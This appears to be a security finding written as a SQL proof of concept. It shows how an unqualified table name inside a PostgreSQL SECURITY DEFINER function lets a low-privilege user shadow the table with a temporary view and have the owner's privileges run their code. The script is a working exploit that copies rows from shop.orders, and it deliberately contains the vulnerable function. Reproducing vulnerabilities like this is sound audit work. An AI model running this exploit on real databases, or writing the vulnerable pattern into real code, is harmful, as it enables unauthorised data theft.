-- finding: definer-search-path function shop.my_count()
SET ROLE shop_owner;
CREATE TABLE shop.extras (owner text);
CREATE FUNCTION shop.my_count() RETURNS bigint SECURITY DEFINER LANGUAGE plpgsql
  AS $$ BEGIN RETURN (SELECT count(*) FROM extras WHERE owner = session_user); END $$;
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT ALL ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN ''; END $$;
CREATE TEMPORARY VIEW extras AS SELECT pg_temp.take() AS owner;
GRANT ALL ON pg_temp.extras TO PUBLIC;
SET search_path = pg_temp, shop;
SELECT shop.my_count();
SELECT item FROM pg_temp.taken WHERE item = 'secret';
